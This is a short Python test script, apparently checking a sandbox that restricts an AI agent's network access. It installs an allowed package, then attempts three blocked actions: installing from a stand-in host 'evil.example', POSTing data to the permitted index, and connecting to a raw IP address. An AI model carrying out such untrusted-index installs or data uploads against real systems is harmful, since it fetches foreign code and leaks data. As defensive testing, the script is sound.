"""What an agent's code does: install a package, use it, and try three things that it should not be able to do."""
import json
import subprocess
import sys
import time
import urllib.error
import urllib.request

INDEX = sys.argv[1]


def tell(**what):
    print(json.dumps(what), flush=True)


def pip(*args):
    began = time.monotonic()
    p = subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--no-cache-dir", "--target", "/tmp/site", *args],
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return p.returncode, round(time.monotonic() - began, 1), p.stdout.strip().splitlines()[-1:]


code, seconds, last = pip("greeting")
sys.path.insert(0, "/tmp/site")
if code == 0:
    import greeting
    tell(step="install", ok=True, says=greeting.hello())
else:
    tell(step="install", ok=False, says=last)

# An index that nobody allowed. The name does not exist here, and pip is told not to try again.
code, seconds, last = pip("--index-url", "https://evil.example/simple", "--upgrade", "greeting")
tell(step="other index", refused=code != 0, seconds=seconds)

# Carrying something out to the allowed host: only GET and HEAD are open.
try:
    urllib.request.urlopen(urllib.request.Request(INDEX, data=b"what was found here"))
    tell(step="upload", refused=False)
except urllib.error.HTTPError as e:
    tell(step="upload", refused=e.code == 403, says=e.read().decode().strip())

try:
    urllib.request.urlopen("https://93.184.216.34/", timeout=5)
    tell(step="raw address", refused=False)
except OSError as e:
    tell(step="raw address", refused=True, says=str(e))
